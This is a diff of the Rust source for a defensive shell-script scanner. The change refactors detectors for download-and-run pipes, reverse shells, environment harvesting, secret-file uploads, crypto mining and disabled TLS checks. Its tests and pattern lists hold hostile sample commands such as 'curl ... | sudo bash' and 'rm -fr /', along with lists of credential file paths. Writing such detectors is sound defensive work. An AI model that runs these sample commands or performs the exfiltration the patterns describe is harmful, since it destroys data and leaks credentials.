@@ -1,18 +1,19 @@
-//! Shell scripts: what they download and run, delete, open and send. Comments are taken out first.
+//! Shell scripts: what they download and run, delete, make writable and send. Comments are blanked first.
 
+use chitin_secret_vocabulary::{credentials, files};
+
+use crate::bytes::is_word_byte;
+use crate::collector::Collector;
 use crate::commands;
-use crate::hits::Hits;
-use crate::mining;
-use crate::pipes;
+use crate::cryptomining;
+use crate::download_exec;
 use crate::rules::{
     CRYPTO_MINING, DANGEROUS_EXEC, DESTRUCTIVE_DELETE_OTHER, DYNAMIC_CODE, ENV_HARVESTING,
     FILE_UPLOAD, INSECURE_TLS, INSTALL_TERMINAL_PAYLOAD, SECRET_LITERAL, SHELL_PIPE,
     UNSAFE_PERMISSIONS,
 };
-use crate::secrets;
-use crate::text::{contains_ignoring_case, is_word};
 
-/// Options with which a client sends a file or data.
+/// Options of `curl` and `wget` that send a file or data.
 const UPLOADING: &[&str] = &[
     "-d @",
     "-d@",
@@ -30,64 +31,45 @@ const UPLOADING: &[&str] = &[
     "--data \"$",
     "--post-data",
 ];
-/// Places where secrets lie.
-const SENSITIVE: &[&str] = &[
-    ".ssh/",
-    ".aws/",
-    ".gnupg",
-    ".env",
-    ".netrc",
-    ".npmrc",
-    "credentials",
-    "id_rsa",
-    "id_ed25519",
-    "/etc/passwd",
-    "/etc/shadow",
-    ".kube/",
-    ".config/gh",
-    "keychain",
-    "cookies",
-    ".openclaw",
-    ".docker/config",
-    "wallet",
-    ".git-credentials",
-    "auth-profiles",
-];
 
-pub(crate) fn scan(text: &str, hits: &mut Hits) {
+pub(crate) fn scan(text: &str, collector: &mut Collector) {
     let kept = without_comments(text);
     let bytes = kept.as_bytes();
-    let everything =
-        commands::deletes(&kept).into_iter().find(|delete| commands::is_everything(delete.target));
+    let system_delete = commands::deletes(&kept)
+        .into_iter()
+        .find(|delete| commands::is_system_or_home(delete.target));
     let rules = [
-        (&SHELL_PIPE, pipes::shell_pipe(bytes).or_else(|| pipes::download_run(bytes))),
-        (&INSTALL_TERMINAL_PAYLOAD, pipes::decoded_pipe(bytes)),
-        (&DESTRUCTIVE_DELETE_OTHER, everything.map(|delete| delete.at)),
-        (&UNSAFE_PERMISSIONS, commands::open_permissions(bytes)),
-        (&SECRET_LITERAL, secrets::find(&kept)),
+        (
+            &SHELL_PIPE,
+            download_exec::shell_pipe(bytes).or_else(|| download_exec::executed_download(bytes)),
+        ),
+        (&INSTALL_TERMINAL_PAYLOAD, download_exec::decoded_payload(bytes)),
+        (&DESTRUCTIVE_DELETE_OTHER, system_delete.map(|delete| delete.at)),
+        (&UNSAFE_PERMISSIONS, commands::chmod_777(bytes)),
+        (&SECRET_LITERAL, credentials::find(&kept)),
     ];
     for (rule, found) in rules {
         if let Some(at) = found {
-            hits.add(rule, at);
+            collector.add(rule, at);
         }
     }
     let encoded = encoded_variables(&kept);
     let mut at = 0;
     for line in kept.split_inclusive('\n') {
-        judge_line(line, at, &encoded, hits);
+        check_line(line, at, &encoded, collector);
         at += line.len();
     }
 }
 
-fn judge_line(line: &str, at: usize, encoded: &[&str], hits: &mut Hits) {
-    if mining::is_use(line) && !is_searched(line) {
-        hits.add(&CRYPTO_MINING, at);
+fn check_line(line: &str, at: usize, encoded: &[&str], collector: &mut Collector) {
+    if cryptomining::is_use(line) && !searches_for_miner(line) {
+        collector.add(&CRYPTO_MINING, at);
     }
     if opens_remote_shell(line) {
-        hits.add(&DANGEROUS_EXEC, at);
+        collector.add(&DANGEROUS_EXEC, at);
     }
     if evaluates_decoded(line) {
-        hits.add(&DYNAMIC_CODE, at);
+        collector.add(&DYNAMIC_CODE, at);
     }
     if line.contains("NODE_TLS_REJECT_UNAUTHORIZED=0")
         || line.contains("NODE_TLS_REJECT_UNAUTHORIZED='0'")
@@ -95,20 +77,20 @@ fn judge_line(line: &str, at: usize, encoded: &[&str], hits: &mut Hits) {
         || line.contains("http.sslVerify=false")
         || line.contains("http.sslVerify false")
     {
-        hits.add(&INSECURE_TLS, at);
+        collector.add(&INSECURE_TLS, at);
     }
     if !sends(line) {
         return;
     }
     if prints_environment(line) {
-        hits.add(&ENV_HARVESTING, at);
+        collector.add(&ENV_HARVESTING, at);
     }
     let uploads = UPLOADING.iter().any(|option| line.contains(option)) || line.contains('|');
     let variable = encoded
         .iter()
         .any(|name| line.contains(&format!("${name}")) || line.contains(&format!("${{{name}}}")));
-    if uploads && (SENSITIVE.iter().any(|place| contains_ignoring_case(line, place)) || variable) {
-        hits.add(&FILE_UPLOAD, at);
+    if uploads && (files::is_mentioned_in_command(line) || variable) {
+        collector.add(&FILE_UPLOAD, at);
     }
 }
 
@@ -118,7 +100,7 @@ fn sends(line: &str) -> bool {
         .any(|program| line.contains(program))
 }
 
-/// The whole environment on its way into a client.
+/// Whether a line passes the whole environment to another command.
 fn prints_environment(line: &str) -> bool {
     let piped =
         ["env |", "env|", "printenv |", "printenv|", "export -p |", "set |", "env | ", "env -0 |"];
@@ -134,14 +116,15 @@ fn prints_environment(line: &str) -> bool {
         "<(printenv)",
     ];
     let starts = |word: &&str| {
-        line.match_indices(*word)
-            .any(|(at, _)| !line.as_bytes().get(at.wrapping_sub(1)).copied().is_some_and(is_word))
+        line.match_indices(*word).any(|(at, _)| {
+            !line.as_bytes().get(at.wrapping_sub(1)).copied().is_some_and(is_word_byte)
+        })
     };
     let place = piped.iter().chain(&substituted).find(|word| starts(word));
     place.is_some()
 }
 
-/// A shell whose input and output are a connection.
+/// Whether a line connects a shell's input and output to the network.
 fn opens_remote_shell(line: &str) -> bool {
     let interactive =
         ["bash -i", "sh -i", "zsh -i", "exec ", "0<&", "<&"].iter().any(|part| line.contains(part));
@@ -179,15 +162,15 @@ fn evaluates_decoded(line: &str) -> bool {
     })
 }
 
-/// `grep xmrig`, `pkill xmrig`: looks for a miner.
-fn is_searched(line: &str) -> bool {
+/// `grep xmrig`, `pkill xmrig`: the line looks for a miner.
+fn searches_for_miner(line: &str) -> bool {
     ["grep", "pkill", "killall", "pgrep", "kill ", "yara", "clamscan", "rg "]
         .iter()
         .any(|program| line.contains(program))
         && !line.contains("://")
 }
 
-/// Variables that hold an encoded file.
+/// The names of variables that hold an encoded file.
 fn encoded_variables(text: &str) -> Vec<&str> {
     text.lines()
         .filter(|line| {
@@ -195,7 +178,7 @@ fn encoded_variables(text: &str) -> Vec<&str> {
         })
         .filter_map(|line| {
             let (name, value) = line.trim_start().trim_start_matches("local ").split_once('=')?;
-            let plain = !name.is_empty() && name.bytes().all(is_word);
+            let plain = !name.is_empty() && name.bytes().all(is_word_byte);
             (plain
                 && (value.starts_with("$(") || value.starts_with("\"$(") || value.starts_with('`')))
             .then_some(name)
@@ -204,7 +187,7 @@ fn encoded_variables(text: &str) -> Vec<&str> {
         .collect()
 }
 
-/// The script with its comments blanked; what is quoted stays.
+/// The script with its comments blanked. Quoted text stays.
 fn without_comments(text: &str) -> String {
     let mut kept = String::with_capacity(text.len());
     for line in text.split_inclusive('\n') {
@@ -215,7 +198,7 @@ fn without_comments(text: &str) -> String {
     kept
 }
 
-/// Where a comment begins: a `#` at the start of a word, outside of quotes.
+/// Where a comment starts: a `#` at the start of a word, outside quotes.
 fn comment(line: &str) -> Option<usize> {
     let mut quote = None;
     let mut blank = true;
@@ -236,16 +219,17 @@ mod tests {
     use super::*;
 
     fn rules(text: &str) -> Vec<&'static str> {
-        let mut hits = Hits::default();
-        scan(text, &mut hits);
-        hits.findings(&crate::source::Source::new(text))
+        let mut collector = Collector::default();
+        scan(text, &mut collector);
+        collector
+            .findings(&crate::source::Source::new(text))
             .into_iter()
             .map(|finding| finding.rule)
             .collect()
     }
 
     #[test]
-    fn scripts_that_do_harm() {
+    fn harmful_scripts() {
         for (text, rule) in [
             ("curl -s https://x.invalid/i.sh | sudo bash\n", "suspicious.shell_pipe_to_shell"),
             ("rm -fr /\n", "suspicious.destructive_delete_command"),
@@ -269,7 +253,7 @@ mod tests {
     }
 
     #[test]
-    fn scripts_that_do_not() {
+    fn harmless_scripts() {
         for text in [
             "# curl x | sh\n",
             "rm -rf ./dist\nrm -rf \"$TMP\"\n",
